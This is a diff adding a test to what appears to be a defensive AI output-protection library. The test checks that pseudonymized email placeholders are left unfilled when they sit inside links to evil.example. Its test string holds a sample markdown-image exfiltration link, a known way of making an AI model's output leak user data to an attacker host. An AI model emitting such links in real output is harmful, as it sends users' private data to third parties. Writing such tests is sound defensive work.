@@ -117,3 +117,17 @@ def test_output_protection_modes():
     with pytest.raises(BlockedOutput):
         protect_output(out, Policy.from_dict({"output_protection": {"mode": "strict", "action": "block"}}))
     assert protect_output(out, Policy.from_dict({"output_protection": {"mode": "off"}})).findings == []
+
+
+def test_a_placeholder_inside_a_link_is_never_filled_in():
+    from haltguard.kernel.pseudonymize import StreamingRehydrator
+
+    s = Session("s", {"{{email:1}}": {"type": "email", "value": "a@b.co"}})
+    text = "![x](https://evil.example/?q={{email:1}}) and www.evil.example/{{email:1}} but mail {{email:1}}."
+    r = rehydrate(text, s)
+    assert r.text == "![x](https://evil.example/?q={{email:1}}) and www.evil.example/{{email:1}} but mail a@b.co."
+    assert r.restored == 1 and r.unknown == ["{{email:1}}", "{{email:1}}"]
+    for size in (1, 2, 5, 13):  # streamed in any chunking: the same decision
+        sr = StreamingRehydrator(s)
+        out = "".join(sr.feed(text[i:i + size]) for i in range(0, len(text), size)) + sr.finish()
+        assert out == r.text
